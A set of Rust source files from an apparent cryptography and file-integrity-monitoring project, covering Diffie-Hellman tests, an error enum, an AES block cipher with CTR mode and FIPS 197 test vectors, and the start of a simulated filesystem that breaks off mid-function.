    fn rejects_degenerate_public_values() {
        let mut rng = HmacDrbg::new(b"dh-test");
        let kp = KeyPair::generate(&mut rng);
        for bad in [0u128, 1, P - 1, P, u128::MAX] {
            assert_eq!(kp.shared_secret(bad), Err(CryptoError::InvalidPublicValue));
        }
    }

    #[test]
    fn distinct_keys_distinct_secrets() {
        let mut rng = HmacDrbg::new(b"dh-test-2");
        let a = KeyPair::generate(&mut rng);
        let b = KeyPair::generate(&mut rng);
        let c = KeyPair::generate(&mut rng);
        assert_ne!(
            a.shared_secret(b.public()).unwrap(),
            a.shared_secret(c.public()).unwrap()
        );
    }

    #[test]
    fn mul_commutes_and_associates_on_samples() {
        let mut rng = HmacDrbg::new(b"alg");
        for _ in 0..50 {
            let a = u128::from_be_bytes(rng.bytes(16).try_into().unwrap()) & MASK;
            let b = u128::from_be_bytes(rng.bytes(16).try_into().unwrap()) & MASK;
            let c = u128::from_be_bytes(rng.bytes(16).try_into().unwrap()) & MASK;
            assert_eq!(mul(a, b), mul(b, a));
            assert_eq!(mul(mul(a, b), c), mul(a, mul(b, c)));
            // Distributivity over modular addition.
            assert_eq!(mul(a, add(b, c)), add(mul(a, b), mul(a, c)));
        }
    }
}
