use std::fmt;

/// Error type for all fallible operations in this crate.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum CryptoError {
    /// A key had a length not supported by the algorithm.
    InvalidKeyLength {
        /// Length that was supplied, in bytes.
        got: usize,
        /// Human-readable description of the accepted lengths.
        expected: &'static str,
    },
    /// A nonce/IV had an unsupported length.
    InvalidNonceLength {
        /// Length that was supplied, in bytes.
        got: usize,
        /// Required length in bytes.
        expected: usize,
    },
    /// Authenticated decryption failed: the tag did not verify.
    ///
    /// The ciphertext or associated data was corrupted or forged.
    AuthenticationFailed,
    /// A ciphertext was shorter than the mandatory tag/header overhead.
    CiphertextTooShort,
    /// A signature did not verify against the given public key.
    BadSignature,
    /// A one-time key was asked to sign more than once, or a Merkle signer
    /// ran out of leaf keys.
    KeyExhausted,
    /// An index was outside the valid range for the structure.
    IndexOutOfRange,
    /// Hex input had odd length or non-hex characters.
    InvalidHex,
    /// A certificate failed validation.
    CertificateInvalid(CertError),
    /// A Diffie-Hellman public value was outside the valid range.
    InvalidPublicValue,
    /// An encoded structure could not be parsed.
    Malformed(&'static str),
    /// A batched AEAD call was given parallel input slices of differing
    /// lengths (every frame needs exactly one nonce, one payload and one
    /// AAD).
    BatchLengthMismatch {
        /// Number of nonces supplied.
        nonces: usize,
        /// Number of plaintexts/ciphertexts supplied.
        texts: usize,
        /// Number of associated-data slices supplied.
        aads: usize,
    },
}

/// Reason a certificate was rejected; carried by
/// [`CryptoError::CertificateInvalid`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum CertError {
    /// The certificate signature did not verify under the issuer key.
    BadSignature,
    /// The validation time was before `not_before`.
    NotYetValid,
    /// The validation time was after `not_after`.
    Expired,
    /// The certificate serial appears on a revocation list.
    Revoked,
    /// The issuer of a chain element does not match the subject of its parent.
    IssuerMismatch,
    /// No trust anchor matched the root of the chain.
    UntrustedRoot,
    /// The certificate does not carry the key usage required for the
    /// operation (e.g. a leaf certificate used to sign another certificate).
    KeyUsageViolation,
    /// The chain was empty.
    EmptyChain,
    /// The chain exceeded the maximum permitted length.
    ChainTooLong,
}

impl fmt::Display for CryptoError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CryptoError::InvalidKeyLength { got, expected } => {
                write!(f, "invalid key length {got}, expected {expected}")
            }
            CryptoError::InvalidNonceLength { got, expected } => {
                write!(f, "invalid nonce length {got}, expected {expected}")
            }
            CryptoError::AuthenticationFailed => write!(f, "authentication failed"),
            CryptoError::CiphertextTooShort => write!(f, "ciphertext too short"),
            CryptoError::BadSignature => write!(f, "signature verification failed"),
            CryptoError::KeyExhausted => write!(f, "signing key exhausted"),
            CryptoError::IndexOutOfRange => write!(f, "index out of range"),
            CryptoError::InvalidHex => write!(f, "invalid hex input"),
            CryptoError::CertificateInvalid(e) => write!(f, "certificate invalid: {e}"),
            CryptoError::InvalidPublicValue => write!(f, "invalid public value"),
            CryptoError::Malformed(what) => write!(f, "malformed {what}"),
            CryptoError::BatchLengthMismatch { nonces, texts, aads } => write!(
                f,
                "batch length mismatch: {nonces} nonces, {texts} texts, {aads} aads"
            ),
        }
    }
}

impl fmt::Display for CertError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            CertError::BadSignature => "bad signature",
            CertError::NotYetValid => "not yet valid",
            CertError::Expired => "expired",
            CertError::Revoked => "revoked",
            CertError::IssuerMismatch => "issuer mismatch",
            CertError::UntrustedRoot => "untrusted root",
            CertError::KeyUsageViolation => "key usage violation",
            CertError::EmptyChain => "empty chain",
            CertError::ChainTooLong => "chain too long",
        };
        f.write_str(s)
    }
}

impl std::error::Error for CryptoError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_messages_are_lowercase_and_concise() {
        let e = CryptoError::InvalidKeyLength {
            got: 3,
            expected: "16/24/32",
        };
        assert_eq!(e.to_string(), "invalid key length 3, expected 16/24/32");
        assert_eq!(
            CryptoError::AuthenticationFailed.to_string(),
            "authentication failed"
        );
        assert_eq!(
            CryptoError::CertificateInvalid(CertError::Expired).to_string(),
            "certificate invalid: expired"
        );
    }

    #[test]
    fn error_is_send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<CryptoError>();
    }
}
