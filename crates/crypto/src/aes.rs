//! AES block cipher (FIPS 197) supporting 128-, 192- and 256-bit keys.
//!
//! The S-boxes are derived at first use from the GF(2^8) multiplicative
//! inverse and the FIPS affine transform rather than embedded as opaque
//! tables, and the implementation is validated against the FIPS 197 appendix
//! vectors. CTR and GCM modes are layered on top in [`crate::gcm`].

use std::sync::OnceLock;

use crate::CryptoError;

/// AES block size in bytes.
pub const BLOCK_LEN: usize = 16;

/// A single 16-byte AES block.
pub type Block = [u8; BLOCK_LEN];

/// Which implementation the dispatching entry points (`encrypt_block`,
/// `ctr_xor`, and the GCM seal/open family) run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Backend {
    /// Table-driven fast path: fused T-table rounds, 8-way interleaved CTR
    /// keystream, windowed GHASH tables. The default.
    Table,
    /// The straight FIPS 197 S-box + bitwise-GF(2^128) path. Slow, but
    /// transparently equal to the specification; kept as the differential
    /// oracle and selectable at run time for A/B verification.
    Reference,
}

/// Resolves the process-wide backend, once: the `force-reference` cargo
/// feature wins, then the `GENIO_CRYPTO_BACKEND` environment variable
/// (`reference` or `table`, case-insensitive); anything else — including the
/// common case of no configuration at all — selects the fast table path.
pub fn backend() -> Backend {
    static BACKEND: OnceLock<Backend> = OnceLock::new();
    *BACKEND.get_or_init(|| {
        if cfg!(feature = "force-reference") {
            return Backend::Reference;
        }
        match std::env::var("GENIO_CRYPTO_BACKEND") {
            Ok(v) if v.eq_ignore_ascii_case("reference") => Backend::Reference,
            _ => Backend::Table,
        }
    })
}

fn gf_mul(mut a: u8, mut b: u8) -> u8 {
    let mut p = 0u8;
    for _ in 0..8 {
        if b & 1 != 0 {
            p ^= a;
        }
        let hi = a & 0x80;
        a <<= 1;
        if hi != 0 {
            a ^= 0x1b;
        }
        b >>= 1;
    }
    p
}

fn gf_inv(a: u8) -> u8 {
    if a == 0 {
        return 0;
    }
    // a^254 = a^-1 in GF(2^8); exponentiate by squaring.
    let mut result = 1u8;
    let mut base = a;
    let mut exp = 254u8;
    while exp > 0 {
        if exp & 1 != 0 {
            result = gf_mul(result, base);
        }
        base = gf_mul(base, base);
        exp >>= 1;
    }
    result
}

fn sbox() -> &'static [u8; 256] {
    static SBOX: OnceLock<[u8; 256]> = OnceLock::new();
    SBOX.get_or_init(|| {
        let mut s = [0u8; 256];
        for (i, slot) in s.iter_mut().enumerate() {
            let b = gf_inv(i as u8);
            *slot = b
                ^ b.rotate_left(1)
                ^ b.rotate_left(2)
                ^ b.rotate_left(3)
                ^ b.rotate_left(4)
                ^ 0x63;
        }
        s
    })
}

fn inv_sbox() -> &'static [u8; 256] {
    static INV: OnceLock<[u8; 256]> = OnceLock::new();
    INV.get_or_init(|| {
        let s = sbox();
        let mut inv = [0u8; 256];
        for (i, &v) in s.iter().enumerate() {
            inv[v as usize] = i as u8;
        }
        inv
    })
}

/// Encryption T-tables: SubBytes, ShiftRows and MixColumns fused into four
/// 256-entry u32 tables (the classic software-AES optimization). `TE0[x]`
/// holds the column contribution `(2s, s, s, 3s)` of a row-0 byte, and the
/// other tables are its byte rotations for rows 1–3.
fn te_tables() -> &'static [[u32; 256]; 4] {
    static TE: OnceLock<[[u32; 256]; 4]> = OnceLock::new();
    TE.get_or_init(|| {
        let s = sbox();
        let mut te = [[0u32; 256]; 4];
        for x in 0..256 {
            let sb = s[x];
            let t0 = u32::from_be_bytes([gf_mul(sb, 2), sb, sb, gf_mul(sb, 3)]);
            te[0][x] = t0;
            te[1][x] = t0.rotate_right(8);
            te[2][x] = t0.rotate_right(16);
            te[3][x] = t0.rotate_right(24);
        }
        te
    })
}

/// Supported AES key sizes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum KeySize {
    /// 128-bit key, 10 rounds.
    Aes128,
    /// 192-bit key, 12 rounds.
    Aes192,
    /// 256-bit key, 14 rounds.
    Aes256,
}

impl KeySize {
    /// Number of 32-bit words in the key.
    pub fn nk(self) -> usize {
        match self {
            KeySize::Aes128 => 4,
            KeySize::Aes192 => 6,
            KeySize::Aes256 => 8,
        }
    }

    /// Number of rounds.
    pub fn rounds(self) -> usize {
        match self {
            KeySize::Aes128 => 10,
            KeySize::Aes192 => 12,
            KeySize::Aes256 => 14,
        }
    }

    /// Key length in bytes.
    pub fn key_len(self) -> usize {
        self.nk() * 4
    }
}

/// An AES key schedule ready for block encryption and decryption.
///
/// # Example
///
/// ```
/// use genio_crypto::aes::Aes;
///
/// # fn main() -> Result<(), genio_crypto::CryptoError> {
/// let aes = Aes::new(&[0u8; 16])?;
/// let ct = aes.encrypt_block([0u8; 16]);
/// assert_eq!(aes.decrypt_block(ct), [0u8; 16]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Aes {
    round_keys: Vec<[u8; 16]>,
    /// Round keys as big-endian u32 columns, for the T-table fast path.
    enc_round_keys: Vec<[u32; 4]>,
    size: KeySize,
}

impl Aes {
    /// Expands `key` into a full key schedule.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless `key` is 16, 24 or 32
    /// bytes.
    pub fn new(key: &[u8]) -> crate::Result<Self> {
        let size = match key.len() {
            16 => KeySize::Aes128,
            24 => KeySize::Aes192,
            32 => KeySize::Aes256,
            n => {
                return Err(CryptoError::InvalidKeyLength {
                    got: n,
                    expected: "16, 24 or 32 bytes",
                })
            }
        };
        let nk = size.nk();
        let nr = size.rounds();
        let s = sbox();
        let mut w = vec![[0u8; 4]; 4 * (nr + 1)];
        for (i, word) in w.iter_mut().take(nk).enumerate() {
            word.copy_from_slice(&key[i * 4..i * 4 + 4]);
        }
        let mut rcon = 1u8;
        for i in nk..4 * (nr + 1) {
            let mut temp = w[i - 1];
            if i % nk == 0 {
                temp.rotate_left(1);
                for b in temp.iter_mut() {
                    *b = s[*b as usize];
                }
                temp[0] ^= rcon;
                rcon = gf_mul(rcon, 2);
            } else if nk > 6 && i % nk == 4 {
                for b in temp.iter_mut() {
                    *b = s[*b as usize];
                }
            }
            for j in 0..4 {
                w[i][j] = w[i - nk][j] ^ temp[j];
            }
        }
        let mut round_keys = Vec::with_capacity(nr + 1);
        let mut enc_round_keys = Vec::with_capacity(nr + 1);
        for r in 0..=nr {
            let mut rk = [0u8; 16];
            let mut cols = [0u32; 4];
            for c in 0..4 {
                rk[c * 4..c * 4 + 4].copy_from_slice(&w[r * 4 + c]);
                cols[c] = u32::from_be_bytes(w[r * 4 + c]);
            }
            round_keys.push(rk);
            enc_round_keys.push(cols);
        }
        Ok(Aes {
            round_keys,
            enc_round_keys,
            size,
        })
    }

    /// The key size this schedule was built for.
    pub fn key_size(&self) -> KeySize {
        self.size
    }

    /// Encrypts one 16-byte block via the configured [`backend`]: the
    /// T-table fast path by default, the straight FIPS 197 reference path
    /// under `GENIO_CRYPTO_BACKEND=reference` or the `force-reference`
    /// feature.
    pub fn encrypt_block(&self, block: Block) -> Block {
        match backend() {
            Backend::Table => self.encrypt_block_table(block),
            Backend::Reference => self.encrypt_block_reference(block),
        }
    }

    /// T-table fast path. Side-channel note (analyzer rule R11): the table
    /// indices are bytes of the evolving cipher state — key material only
    /// enters through the XORed round keys, never as an index — so the
    /// secret-index taint R11 tracks does not arise; see `ghash.rs` for the
    /// full argument and the residual cache-timing caveat.
    fn encrypt_block_table(&self, block: Block) -> Block {
        let te = te_tables();
        let s = sbox();
        let nr = self.size.rounds();
        let rk = &self.enc_round_keys;
        let mut cols = [0u32; 4];
        for c in 0..4 {
            cols[c] = u32::from_be_bytes([
                block[4 * c],
                block[4 * c + 1],
                block[4 * c + 2],
                block[4 * c + 3],
            ]) ^ rk[0][c];
        }
        #[allow(clippy::needless_range_loop)]
        for rkr in rk.iter().take(nr).skip(1) {
            let mut next = [0u32; 4];
            for c in 0..4 {
                next[c] = te[0][((cols[c] >> 24) & 0xff) as usize]
                    ^ te[1][((cols[(c + 1) & 3] >> 16) & 0xff) as usize]
                    ^ te[2][((cols[(c + 2) & 3] >> 8) & 0xff) as usize]
                    ^ te[3][(cols[(c + 3) & 3] & 0xff) as usize]
                    ^ rkr[c];
            }
            cols = next;
        }
        // Final round: SubBytes + ShiftRows + AddRoundKey (no MixColumns),
        // unrolled so every index is a literal or a masked byte.
        let rkl = rk[nr];
        let words = final_round_words(&cols, s, &rkl);
        let mut out = [0u8; BLOCK_LEN];
        for (word, chunk) in words.iter().zip(out.chunks_exact_mut(4)) {
            chunk.copy_from_slice(&word.to_be_bytes());
        }
        out
    }

    /// Reference (straight FIPS 197) encryption used to cross-check the
    /// T-table fast path in tests.
    #[doc(hidden)]
    pub fn encrypt_block_reference(&self, mut block: Block) -> Block {
        let s = sbox();
        let nr = self.size.rounds();
        xor_block(&mut block, &self.round_keys[0]);
        for round in 1..nr {
            sub_bytes(&mut block, s);
            shift_rows(&mut block);
            mix_columns(&mut block);
            xor_block(&mut block, &self.round_keys[round]);
        }
        sub_bytes(&mut block, s);
        shift_rows(&mut block);
        xor_block(&mut block, &self.round_keys[nr]);
        block
    }

    /// Decrypts one 16-byte block.
    pub fn decrypt_block(&self, mut block: Block) -> Block {
        let inv = inv_sbox();
        let nr = self.size.rounds();
        xor_block(&mut block, &self.round_keys[nr]);
        for round in (1..nr).rev() {
            inv_shift_rows(&mut block);
            sub_bytes(&mut block, inv);
            xor_block(&mut block, &self.round_keys[round]);
            inv_mix_columns(&mut block);
        }
        inv_shift_rows(&mut block);
        sub_bytes(&mut block, inv);
        xor_block(&mut block, &self.round_keys[0]);
        block
    }

    /// Generates the keystream for [`KS_LANES`] consecutive counter blocks
    /// in one interleaved pass: all lanes advance round by round together,
    /// so the eight independent dependency chains fill the pipeline instead
    /// of serializing block by block. The counter blocks share bytes 0..12
    /// (`prefix`) and differ only in the trailing 32-bit big-endian counter,
    /// exactly as GCM's CTR mode increments them.
    fn keystream8(&self, prefix: [u32; 3], ctr: u32, out: &mut [u8; KS_LANES * BLOCK_LEN]) {
        let te = te_tables();
        let s = sbox();
        let nr = self.size.rounds();
        let rk = &self.enc_round_keys;
        let rk0 = rk[0];
        let mut lanes = [[0u32; 4]; KS_LANES];
        for (i, lane) in lanes.iter_mut().enumerate() {
            lane[0] = prefix[0] ^ rk0[0];
            lane[1] = prefix[1] ^ rk0[1];
            lane[2] = prefix[2] ^ rk0[2];
            lane[3] = ctr.wrapping_add(i as u32) ^ rk0[3];
        }
        for rkr in rk.iter().take(nr).skip(1) {
            for lane in lanes.iter_mut() {
                let c = *lane;
                lane[0] = te[0][(c[0] >> 24) as usize]
                    ^ te[1][((c[1] >> 16) & 0xff) as usize]
                    ^ te[2][((c[2] >> 8) & 0xff) as usize]
                    ^ te[3][(c[3] & 0xff) as usize]
                    ^ rkr[0];
                lane[1] = te[0][(c[1] >> 24) as usize]
                    ^ te[1][((c[2] >> 16) & 0xff) as usize]
                    ^ te[2][((c[3] >> 8) & 0xff) as usize]
                    ^ te[3][(c[0] & 0xff) as usize]
                    ^ rkr[1];
                lane[2] = te[0][(c[2] >> 24) as usize]
                    ^ te[1][((c[3] >> 16) & 0xff) as usize]
                    ^ te[2][((c[0] >> 8) & 0xff) as usize]
                    ^ te[3][(c[1] & 0xff) as usize]
                    ^ rkr[2];
                lane[3] = te[0][(c[3] >> 24) as usize]
                    ^ te[1][((c[0] >> 16) & 0xff) as usize]
                    ^ te[2][((c[1] >> 8) & 0xff) as usize]
                    ^ te[3][(c[2] & 0xff) as usize]
                    ^ rkr[3];
            }
        }
        // Final round: SubBytes + ShiftRows + AddRoundKey (no MixColumns).
        let rkl = rk[nr];
        for (lane, block_out) in lanes.iter().zip(out.chunks_exact_mut(BLOCK_LEN)) {
            let words = final_round_words(lane, s, &rkl);
            for (word, word_out) in words.iter().zip(block_out.chunks_exact_mut(4)) {
                word_out.copy_from_slice(&word.to_be_bytes());
            }
        }
    }

    /// Encrypts `data` in CTR mode with the given 16-byte initial counter
    /// block, XORing the keystream in place.
    ///
    /// CTR encryption and decryption are the same operation. The default
    /// backend generates the keystream in interleaved batches of
    /// [`KS_LANES`] blocks (see [`Aes::keystream8`]); the reference backend
    /// falls through to [`Aes::ctr_xor_reference`].
    pub fn ctr_xor(&self, initial_counter: Block, data: &mut [u8]) {
        if backend() == Backend::Reference {
            self.ctr_xor_reference(initial_counter, data);
            return;
        }
        let ic = initial_counter;
        let prefix = [
            u32::from_be_bytes([ic[0], ic[1], ic[2], ic[3]]),
            u32::from_be_bytes([ic[4], ic[5], ic[6], ic[7]]),
            u32::from_be_bytes([ic[8], ic[9], ic[10], ic[11]]),
        ];
        // The counter arithmetic stays in u32 so wrap-around matches
        // `increment_counter`'s 32-bit big-endian semantics exactly.
        let mut ctr = u32::from_be_bytes([ic[12], ic[13], ic[14], ic[15]]);
        let mut ks = [0u8; KS_LANES * BLOCK_LEN];
        let mut batches = data.chunks_exact_mut(KS_LANES * BLOCK_LEN);
        for chunk in &mut batches {
            self.keystream8(prefix, ctr, &mut ks);
            ctr = ctr.wrapping_add(KS_LANES as u32);
            for (b, k) in chunk.iter_mut().zip(ks.iter()) {
                *b ^= k;
            }
        }
        let rest = batches.into_remainder();
        if rest.is_empty() {
            return;
        }
        let mut counter = ic;
        counter[12..16].copy_from_slice(&ctr.to_be_bytes());
        for chunk in rest.chunks_mut(BLOCK_LEN) {
            let keystream = self.encrypt_block_table(counter);
            for (b, k) in chunk.iter_mut().zip(keystream.iter()) {
                *b ^= k;
            }
            increment_counter(&mut counter);
        }
    }

    /// Reference CTR mode: one straight FIPS 197 block encryption per
    /// 16 bytes, no interleaving. Differential oracle twin of
    /// [`Aes::ctr_xor`].
    pub fn ctr_xor_reference(&self, initial_counter: Block, data: &mut [u8]) {
        let mut counter = initial_counter;
        for chunk in data.chunks_mut(BLOCK_LEN) {
            let keystream = self.encrypt_block_reference(counter);
            for (b, k) in chunk.iter_mut().zip(keystream.iter()) {
                *b ^= k;
            }
            increment_counter(&mut counter);
        }
    }
}

/// Number of CTR blocks generated per interleaved keystream batch.
const KS_LANES: usize = 8;

/// The AES final round (SubBytes + ShiftRows + AddRoundKey) for one block
/// held as four column words, fully unrolled: every table index is either a
/// literal or a byte masked to the S-box length.
#[inline]
fn final_round_words(c: &[u32; 4], s: &[u8; 256], rkl: &[u32; 4]) -> [u32; 4] {
    [
        u32::from_be_bytes([
            s[((c[0] >> 24) & 0xff) as usize],
            s[((c[1] >> 16) & 0xff) as usize],
            s[((c[2] >> 8) & 0xff) as usize],
            s[(c[3] & 0xff) as usize],
        ]) ^ rkl[0],
        u32::from_be_bytes([
            s[((c[1] >> 24) & 0xff) as usize],
            s[((c[2] >> 16) & 0xff) as usize],
            s[((c[3] >> 8) & 0xff) as usize],
            s[(c[0] & 0xff) as usize],
        ]) ^ rkl[1],
        u32::from_be_bytes([
            s[((c[2] >> 24) & 0xff) as usize],
            s[((c[3] >> 16) & 0xff) as usize],
            s[((c[0] >> 8) & 0xff) as usize],
            s[(c[1] & 0xff) as usize],
        ]) ^ rkl[2],
        u32::from_be_bytes([
            s[((c[3] >> 24) & 0xff) as usize],
            s[((c[0] >> 16) & 0xff) as usize],
            s[((c[1] >> 8) & 0xff) as usize],
            s[(c[2] & 0xff) as usize],
        ]) ^ rkl[3],
    ]
}

/// Increments the last 32 bits of a counter block (big-endian), as specified
/// for GCM's CTR mode.
pub fn increment_counter(block: &mut Block) {
    let mut ctr = u32::from_be_bytes([block[12], block[13], block[14], block[15]]);
    ctr = ctr.wrapping_add(1);
    block[12..16].copy_from_slice(&ctr.to_be_bytes());
}

fn xor_block(a: &mut Block, b: &Block) {
    for i in 0..BLOCK_LEN {
        a[i] ^= b[i];
    }
}

fn sub_bytes(block: &mut Block, table: &[u8; 256]) {
    for b in block.iter_mut() {
        *b = table[*b as usize];
    }
}

// State layout: block[r + 4c] is row r, column c (FIPS 197 §3.4).
fn shift_rows(block: &mut Block) {
    for r in 1..4 {
        let mut row = [block[r], block[r + 4], block[r + 8], block[r + 12]];
        row.rotate_left(r);
        block[r] = row[0];
        block[r + 4] = row[1];
        block[r + 8] = row[2];
        block[r + 12] = row[3];
    }
}

fn inv_shift_rows(block: &mut Block) {
    for r in 1..4 {
        let mut row = [block[r], block[r + 4], block[r + 8], block[r + 12]];
        row.rotate_right(r);
        block[r] = row[0];
        block[r + 4] = row[1];
        block[r + 8] = row[2];
        block[r + 12] = row[3];
    }
}

fn mix_columns(block: &mut Block) {
    for c in 0..4 {
        let col = [
            block[4 * c],
            block[4 * c + 1],
            block[4 * c + 2],
            block[4 * c + 3],
        ];
        block[4 * c] = gf_mul(col[0], 2) ^ gf_mul(col[1], 3) ^ col[2] ^ col[3];
        block[4 * c + 1] = col[0] ^ gf_mul(col[1], 2) ^ gf_mul(col[2], 3) ^ col[3];
        block[4 * c + 2] = col[0] ^ col[1] ^ gf_mul(col[2], 2) ^ gf_mul(col[3], 3);
        block[4 * c + 3] = gf_mul(col[0], 3) ^ col[1] ^ col[2] ^ gf_mul(col[3], 2);
    }
}

fn inv_mix_columns(block: &mut Block) {
    for c in 0..4 {
        let col = [
            block[4 * c],
            block[4 * c + 1],
            block[4 * c + 2],
            block[4 * c + 3],
        ];
        block[4 * c] =
            gf_mul(col[0], 14) ^ gf_mul(col[1], 11) ^ gf_mul(col[2], 13) ^ gf_mul(col[3], 9);
        block[4 * c + 1] =
            gf_mul(col[0], 9) ^ gf_mul(col[1], 14) ^ gf_mul(col[2], 11) ^ gf_mul(col[3], 13);
        block[4 * c + 2] =
            gf_mul(col[0], 13) ^ gf_mul(col[1], 9) ^ gf_mul(col[2], 14) ^ gf_mul(col[3], 11);
        block[4 * c + 3] =
            gf_mul(col[0], 11) ^ gf_mul(col[1], 13) ^ gf_mul(col[2], 9) ^ gf_mul(col[3], 14);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hex;

    fn check(key_hex: &str, pt_hex: &str, ct_hex: &str) {
        let key = hex::decode(key_hex).unwrap();
        let pt: Block = hex::decode(pt_hex).unwrap().try_into().unwrap();
        let aes = Aes::new(&key).unwrap();
        let ct = aes.encrypt_block(pt);
        assert_eq!(hex::encode(&ct), ct_hex);
        assert_eq!(aes.decrypt_block(ct), pt);
    }

    // FIPS 197 Appendix C.1.
    #[test]
    fn fips197_aes128() {
        check(
            "000102030405060708090a0b0c0d0e0f",
            "00112233445566778899aabbccddeeff",
            "69c4e0d86a7b0430d8cdb78070b4c55a",
        );
    }

    // FIPS 197 Appendix C.2.
    #[test]
    fn fips197_aes192() {
        check(
            "000102030405060708090a0b0c0d0e0f1011121314151617",
            "00112233445566778899aabbccddeeff",
            "dda97ca4864cdfe06eaf70a0ec0d7191",
        );
    }

    // FIPS 197 Appendix C.3.
    #[test]
    fn fips197_aes256() {
        check(
            "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f",
            "00112233445566778899aabbccddeeff",
            "8ea2b7ca516745bfeafc49904b496089",
        );
    }

    // FIPS 197 Appendix B worked example.
    #[test]
    fn fips197_appendix_b() {
        check(
            "2b7e151628aed2a6abf7158809cf4f3c",
            "3243f6a8885a308d313198a2e0370734",
            "3925841d02dc09fbdc118597196a0b32",
        );
    }

    #[test]
    fn rejects_bad_key_length() {
        assert!(matches!(
            Aes::new(&[0u8; 17]),
            Err(CryptoError::InvalidKeyLength { got: 17, .. })
        ));
    }

    #[test]
    fn ctr_roundtrip_and_partial_block() {
        let aes = Aes::new(&[9u8; 32]).unwrap();
        let counter = [1u8; 16];
        let mut data = b"seventeen bytes!!".to_vec();
        let original = data.clone();
        aes.ctr_xor(counter, &mut data);
        assert_ne!(data, original);
        aes.ctr_xor(counter, &mut data);
        assert_eq!(data, original);
    }

    #[test]
    fn counter_increment_wraps_32_bits() {
        let mut block = [0xffu8; 16];
        increment_counter(&mut block);
        // Only the last 4 bytes wrap; the rest are untouched.
        assert_eq!(&block[..12], &[0xff; 12]);
        assert_eq!(&block[12..], &[0, 0, 0, 0]);
    }

    #[test]
    fn ttable_path_matches_reference_for_all_key_sizes() {
        for key_len in [16usize, 24, 32] {
            let key: Vec<u8> = (0..key_len as u8)
                .map(|i| i.wrapping_mul(7) ^ 0x5a)
                .collect();
            let aes = Aes::new(&key).unwrap();
            let mut block = [0x3cu8; 16];
            for _ in 0..50 {
                let fast = aes.encrypt_block(block);
                let slow = aes.encrypt_block_reference(block);
                assert_eq!(fast, slow, "key_len {key_len}");
                block = fast;
            }
        }
    }

    #[test]
    fn ctr_interleaved_matches_reference_across_lengths() {
        for key_len in [16usize, 24, 32] {
            let key: Vec<u8> = (0..key_len as u8)
                .map(|i| i.wrapping_mul(13) ^ 0xa7)
                .collect();
            let aes = Aes::new(&key).unwrap();
            let counter = [0x42u8; 16];
            // Lengths straddle the 8-lane batch boundary (128 bytes) and
            // include partial final blocks.
            for len in [0usize, 1, 15, 16, 17, 127, 128, 129, 255, 256, 1500] {
                let mut fast: Vec<u8> = (0..len).map(|i| i as u8).collect();
                let mut slow = fast.clone();
                aes.ctr_xor(counter, &mut fast);
                aes.ctr_xor_reference(counter, &mut slow);
                assert_eq!(fast, slow, "key_len {key_len} len {len}");
            }
        }
    }

    #[test]
    fn ctr_counter_wrap_crossing_matches_reference() {
        let aes = Aes::new(&[7u8; 16]).unwrap();
        // Start 3 increments below the 32-bit wrap so both an interleaved
        // batch and the per-block tail cross the wrap boundary.
        let mut counter = [0x11u8; 16];
        counter[12..16].copy_from_slice(&0xffff_fffd_u32.to_be_bytes());
        let mut fast = vec![0xa5u8; KS_LANES * BLOCK_LEN * 2 + 37];
        let mut slow = fast.clone();
        aes.ctr_xor(counter, &mut fast);
        aes.ctr_xor_reference(counter, &mut slow);
        assert_eq!(fast, slow);
    }

    #[test]
    fn sbox_matches_known_entries() {
        let s = sbox();
        assert_eq!(s[0x00], 0x63);
        assert_eq!(s[0x01], 0x7c);
        assert_eq!(s[0x53], 0xed);
        assert_eq!(s[0xff], 0x16);
        let inv = inv_sbox();
        for i in 0..256 {
            assert_eq!(inv[s[i] as usize] as usize, i);
        }
    }
}
