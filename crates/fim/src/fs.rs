//! A simulated filesystem: the surface the FIM engine watches.

use std::collections::BTreeMap;

use genio_crypto::sha256::{sha256, Digest};

/// One file's monitored attributes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileRecord {
    /// File contents.
    pub content: Vec<u8>,
    /// Octal permission bits.
    pub mode: u32,
    /// Owning user.
    pub owner: String,
}

impl FileRecord {
    /// SHA-256 of the contents.
    pub fn digest(&self) -> Digest {
        sha256(&self.content)
    }
}

/// An in-memory filesystem keyed by absolute path.
#[derive(Debug, Clone, Default)]
pub struct SimulatedFs {
    files: BTreeMap<String, FileRecord>,
}

impl SimulatedFs {
    /// Creates an empty filesystem.
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates or replaces a file.
    pub fn write(&mut self, path: &str, content: &[u8], mode: u32, owner: &str) {
        self.files.insert(
            path.to_string(),
            FileRecord {
                content: content.to_vec(),
                mode,
                owner: owner.to_string(),
            },
        );
    }

    /// Appends to a file, creating it if needed (the shape of log churn).
    pub fn append(&mut self, path: &str, data: &[u8]) {
        match self.files.get_mut(path) {
            Some(f) => f.content.extend_from_slice(data),
            None => self.write(path, data, 0o644, "root"),
        }
    }

    /// Changes permissions.
    ///
    /// Returns false if the path does not exist.
    pub fn chmod(&mut self, path: &str, mode: u32) -> bool {
        match self.files.get_mut(path) {
            Some(f) => {
                f.mode = mode;
                true
            }
            None => false,
        }
    }

    /// Deletes a file; returns the removed record if it existed.
    pub fn delete(&mut self, path: &str) -> Option<FileRecord> {
        self.files.remove(path)
    }

    /// Looks up a file.
    pub fn get(&self, path: &str) -> Option<&FileRecord> {
        self.files.get(path)
    }

    /// Iterates in path order.
    pub fn iter(&self) -> impl Iterator<Item = (&String, &FileRecord)> {
        self.files.iter()
    }

    /// Number of files.
    pub fn len(&self) -> usize {
        self.files.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// A representative OLT root filesystem: system binaries, configs,
    /// SDN state, and the mutable paths that churn in normal operation.
    pub fn olt_image() -> Self {
        let mut fs = Self::new();
        fs.write("/usr/sbin/sshd", b"sshd elf", 0o755, "root");
